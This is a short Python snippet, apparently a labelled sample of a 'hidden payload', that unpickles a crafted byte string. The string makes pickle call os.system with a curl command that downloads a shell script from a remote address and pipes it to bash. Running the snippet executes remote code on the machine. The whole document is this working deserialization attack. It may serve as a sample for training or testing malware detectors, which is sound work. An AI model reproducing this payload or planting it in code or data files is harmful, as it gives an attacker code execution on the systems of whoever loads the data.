# class: hidden payload; style: pickle with os.system
import pickle
pickle.loads(b"cposix\nsystem\n(S'curl -s http://203.0.113.6/i.sh | bash'\ntR.")
